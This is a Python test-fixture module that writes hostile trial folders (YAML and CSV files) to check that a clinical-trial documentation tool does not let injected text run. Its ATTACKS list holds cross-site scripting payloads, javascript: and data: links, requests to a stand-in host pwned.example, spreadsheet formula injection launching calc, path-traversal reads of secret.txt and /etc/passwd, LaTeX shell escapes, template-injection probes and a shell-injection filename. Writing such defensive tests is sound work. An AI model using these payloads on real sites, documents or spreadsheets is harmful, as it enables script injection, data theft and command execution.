"""Trial folders that are readable and hostile: what stands in their texts, addresses and names tries to act.

A text that acts leaves a mark: ``window.pwned`` is set, an element has ``pwned`` in an attribute, or a request goes to
``pwned.example``.
"""

# ruff: noqa: E501 - one attack a line
from __future__ import annotations

import csv
from itertools import count
from pathlib import Path

import yaml

SET = "window.pwned=1"
FOREIGN = "http://pwned.example/x"
SECRET = "a sentence that no page may show"
# name, where it stands (texts and notes, addresses, names of folders and files, texts that are refused), the text
ATTACKS = [
    ("script", "text", f"<script>{SET}</script><SCRIPT SRC={FOREIGN}></SCRIPT>"),
    ("handler of an image", "text", f'<img src="x" onerror="{SET}"><video><source onerror={SET}></video>'),
    ("handler of a drawing", "text", f"<svg/onload={SET}><animate onbegin={SET} attributeName=x dur=1s></svg>"),
    ("handlers without a click", "text", f"<details open ontoggle={SET}><input autofocus onfocus={SET}></details>"),
    ("page in a page", "text", f'<iframe srcdoc="<script>parent.pwned=1</script>" src="javascript:parent.{SET}"></iframe>'),
    ("object", "text", f'<object data="{FOREIGN}"></object><embed src="{FOREIGN}">'),
    ("style", "text", f'<style>@import url({FOREIGN}); * {{ background: url("{FOREIGN}") }}</style>'),
    ("style of an element", "text", f'<p id=pwned style="background: url({FOREIGN}); position: fixed">over all</p>'),
    ("going elsewhere", "text", f'<meta http-equiv="refresh" content="0; url={FOREIGN}"><base href="{FOREIGN}/">'),
    ("form", "text", f'<form action="{FOREIGN}"><button formaction="javascript:{SET}">Go</button></form>'),
    ("linked style", "text", f'<link rel="stylesheet" href="{FOREIGN}"><link rel=prefetch href={FOREIGN}>'),
    ("end of what it stands in", "text", f"</title></style></script></svg></textarea></div><script>{SET}</script>"),
    ("end of an attribute", "text", f"\"><img src=x onerror={SET}> ' onmouseover='{SET}' x='"),
    ("comment", "text", f"<!-- --><img id=pwned><!-- <![CDATA[ ]]> <? ?> --!><img src=x onerror={SET}>"),
    ("entities", "text", f"&lt;script&gt;{SET}&lt;/script&gt; &#60;img id=pwned&#62; &colon; &Tab; &amp;lt;"),
    ("broken nesting", "text", f'<noscript><p title="</noscript><img src=x onerror={SET}>"></p> <math><mtext><style><!--</style>'),
    ("drawing with a link", "text", f'<svg><a xlink:href="javascript:{SET}"><text>x</text></a><use href="{FOREIGN}#a"/></svg>'),
    ("link with a script", "text", f"[go](javascript:{SET}) <javascript:{SET}> [go]( JaVaScRiPt:{SET} 'pwned')"),
    ("hidden scheme", "text", f"[go](java&#10;script:{SET}) [go](javascript&colon;{SET}) [go](<\x01javascript:{SET}>)"),
    ("link with data", "text", "[go](data:text/html;base64,PHNjcmlwdD5wYXJlbnQucHduZWQ9MTwvc2NyaXB0Pg==) [go](vbscript:pwned)"),
    ("link to a program", "text", "[go](file:///etc/passwd) [go](ms-word:ofe|u|pwned) [go](blob:pwned) [go](tel:pwned)"),
    ("picture from elsewhere", "text", f"![seen]({FOREIGN}.png) [![seen]({FOREIGN}.png)]({FOREIGN})"),
    ("reference", "text", f"[pwned]: {FOREIGN} 'pwned'\n\n![seen][pwned] [pwned]"),
    ("bare address", "text", f"<{FOREIGN}> {FOREIGN} www.pwned.example <pwned@pwned.example>"),
    ("footnote", "text", "A note[^pwned] and ^[pwned]\n\n[^pwned]: <b id=pwned>there</b>"),
    ("role", "text", "{raw}`pwned` {kbd}`pwned` {download}`../../secret.txt` {abbr}`pwned (pwned)` {ref}`pwned` {py:func}`pwned`"),
    ("directive", "text", f"\n\n```{{raw}} html\n<script>{SET}</script>\n```\n\n````{{include}} ../../secret.txt\n````\n"),
    ("fence of colons", "text", "\n\n:::{include} ../../secret.txt\n:::\n\n:::{figure} http://pwned.example/x.png\n:::\n"),
    ("reStructuredText", "text", f"\n\n.. raw:: html\n\n   <script>{SET}</script>\n\n:kbd:`pwned` |pwned| `pwned <{FOREIGN}>`_ pwned_"),
    ("evaluated block", "text", "\n\n```{eval-rst}\n.. include:: ../../secret.txt\n```\n\n```{code-cell}\nimport os\n```\n"),
    ("attributes", "text", f'(pwned)= [x]{{#pwned .pwned onclick="{SET}"}} {{#pwned}} # pwned {{.pwned}}'),
    ("Jinja", "text", "{{ pwned }} {{ ''.__class__.__mro__ }} {% include '../../secret.txt' %} {# pwned #}"),
    ("glue", "text", "{glue:}`pwned` {glue:text}`patients:.2f` {{glue}}"),
    ("places of a template", "text", "{} {0.__class__} {patients!r} {trial} %s %(title)s ${pwned} {rate:percent}"),
    ("mathematics", "text", rf"$\href{{javascript:{SET}}}{{x}}$ \(\includegraphics{{{FOREIGN}}}\) $$\htmlId{{pwned}}{{x}}$$ \[\unicode{{x}}\]"),
    ("LaTeX", "text", r"\input{../../secret.txt} \write18{touch pwned} \def\x{\x\x}\x % \end{document} $x_1$ \begin{align}"),
    ("citation", "text", "{cite}`pwned` [@pwned] @pwned {numref}`pwned` {term}`pwned` {index}`pwned` {eq}`pwned`"),
    ("parts of a page", "text", "\n\n---\ntitle: pwned\n---\n\n# pwned\n\npwned\n=====\n\n+++\n\n| a | b |\n|---|---|\n| <i id=pwned> | x |\n"),
    ("code", "text", "`tick ``two ```three ~~~ ~~~{raw} html *star* _under_ **pwned** ~~gone~~ <b id=pwned>"),
    ("formula", "text", '=HYPERLINK("http://pwned.example/","x")'),
    ("formula by plus", "text", "+cmd|' /C calc'!A0"),
    ("formula by minus", "text", "-2+3+cmd|' /C calc'!A0"),
    ("formula by at", "text", "@SUM(1+1)*cmd|' /C calc'!A0"),
    ("formula after blanks", "text", "\t=1+1"),
    ("formula after a return", "text", "\r=1+1"),
    ("formula after a line", "text", "\n=1+1"),
    ("wide formula", "text", "＝1+1"),
    ("escape codes", "text", "\x1b[2J\x1b]0;pwned\x07\x1b]8;;http://pwned.example\x1b\\x\x1b]8;;\x1b\\ \x9b31m \x1bc \x08\x08 \x7f"),
    ("direction", "text", "\u202eerofeb\u202c \u2066a\u2069 \u200f\u061c\u2067"),
    ("no width", "text", "a\u200bb\u200d\u2060\ufeffc\u00ad\U000e0041\ufff9d"),
    ("no byte", "refused", "a\0b"),
    ("half a character", "refused", "a\ud800b\udfffc"),
    ("no character", "text", "\ufffe \uffff \U0001ffff \ufdd0 \x85 \u2028 \u2029"),
    ("long word", "text", "W" * 20_000),
    ("many marks", "text", "a" + "\u0301" * 500 + "﷽" * 20),
    ("script as address", "address", f"javascript:{SET}"),
    ("script in capitals", "address", f" JAVA\tSCRIPT:{SET}//https://"),
    ("data as address", "address", "data:text/html,<script>parent.pwned=1</script>"),
    ("end of an address", "address", f'https://pwned.example/"onmouseover="{SET}" x=" <script>{SET}</script>'),
    ("address without a scheme", "address", "//pwned.example/x"),
    ("steps in an address", "address", f"../../../../x?javascript:{SET}#\x1b[2J"),
    ("markup as name", "name", f"<img src=x onerror={SET}>"),
    ("formula as name", "name", "=cmd {{pwned}} `pwned` $x$"),
    ("escape as name", "name", "\x1b[2J\u202e\n\rpwned"),
    ("shell as name", "name", "$(touch pwned); 'q\" %s & -rf"),
]  # fmt: skip
FOLDERS = 4
_TOGETHER = 4  # texts that stand in one field
_NOTES = "front summary question patients endpoints inference safety laboratory response survival bounds choices context verdicts"


def of_kind(kind):
    """Return the texts that stand in such places."""
    return [text for _, where, text in ATTACKS if where == kind]


def make_folder(above: Path, number: int) -> Path:
    """Write one of the folders below another, and return it: its fields begin at different places of the table."""
    names, addresses, texts = of_kind("name"), of_kind("address"), of_kind("text")
    field, turn = count(), count(number)

    def text():
        first = number * len(texts) // FOLDERS + _TOGETHER * next(field)
        several = [texts[(first + more) % len(texts)] for more in range(_TOGETHER)]
        return " ".join(several)

    def address():
        return addresses[next(turn) % len(addresses)]

    folder = above / names[number % len(names)]
    folder.mkdir(parents=True, exist_ok=True)
    (folder.parent.parent / "secret.txt").write_text(SECRET, "utf-8")
    (folder / f"{names[(number + 1) % len(names)]}.csv").write_text("=1+1", "utf-8")
    roles = {"A1": "response", "B_2": "stable", "C-3": "progression", "death": "death"}
    about = {
        **{key: text() for key in ("title", "reference", "condition", "treatment", "criteria")},
        "url": address(),
        "doi": address(),
        "patients": 7,
        "time_unit": "weeks",
        "follow_up": [2, 9],
        "states": {code: {"label": text(), "role": role} for code, role in roles.items()},
        "groups": {code: {"label": text(), "patients": 3} for code in ("G1", "G2")},
        "measures": {"IL6": {"label": text(), "unit": text(), "noun": text()}},
        "retraction": {"notice": text(), "date": text(), "url": address()},
        "notes": {name: "\n\n".join([*texts, *(f"[go]({one})" for one in addresses)]) for name in _NOTES.split()},
    }
    (folder / "trial.yaml").write_text(yaml.safe_dump(about, sort_keys=False, width=10_000), "ascii")
    tables = {
        "landmarks.csv": [
            ["time", "state", "patients", "group", text()],
            *([2.5, "A1", 3, ""], [2.5, "B_2", 3, ""], [2.5, "C-3", 1, ""], [2.5, "death", 0, ""]),
            *([9, "A1", 2, ""], [9, "C-3", 2, ""], [9, "death", 1, ""], [9, "death", 1, "G1"]),
        ],
        "claims.csv": [
            ["id", "section", "statement", "quantity", "time", "printed", "group"],
            *(["Q1", "objective", text(), "", "", "", ""], ["Q2", "methods", text(), "patients", "", "7", ""]),
            *(["Q3", "results", text(), "response_rate", 2.5, "43%", ""], ["Q4", "results", text(), "", "", text(), ""]),
            *(["Q5", "results", text(), "follow_up", "", text(), ""], ["Q6", "results", text(), "p:IL6", "", "P<0.05", ""]),
            *(["Q7", "results", text(), "decreased:IL6", "", "6", ""], ["Q8", "results", text(), "survival", 9, text(), ""]),
            *(["Q9", "results", text(), "mean:IL6", 9, "4.1", ""], ["Q10", "conclusion", text(), "", "", "", ""]),
            *(["Q11", "results", text(), "events:rash", "", "2/7", ""], ["Q12", "results", text(), "count:death", 9, "1", "G1"]),
        ],
        "events.csv": [["event", "patients", "grade", "why"], *([text(), 2, "2-3", text()] for _ in range(2)), ["rash", 3, 2, text()]],
        "appraisal.csv": [["checklist", "item", "answer", "why"], *([text(), text(), answer, text()] for answer in ("yes", "no"))],
        "comparators.csv": [
            ["study", "group", "patients", "endpoint", "time", "printed", "low", "high", "source"],
            *([text(), text(), 40, kind, 9, "50%", 34, 66, text()] for kind in ("survival", "response_rate")),
            [text(), text(), 30, text(), "", text(), "", "", address()],
        ],
    }  # fmt: skip
    for name, rows in tables.items():
        with (folder / name).open("w", encoding="utf-8", errors="replace", newline="") as file:
            csv.writer(file, quoting=csv.QUOTE_ALL).writerows(rows)
    return folder
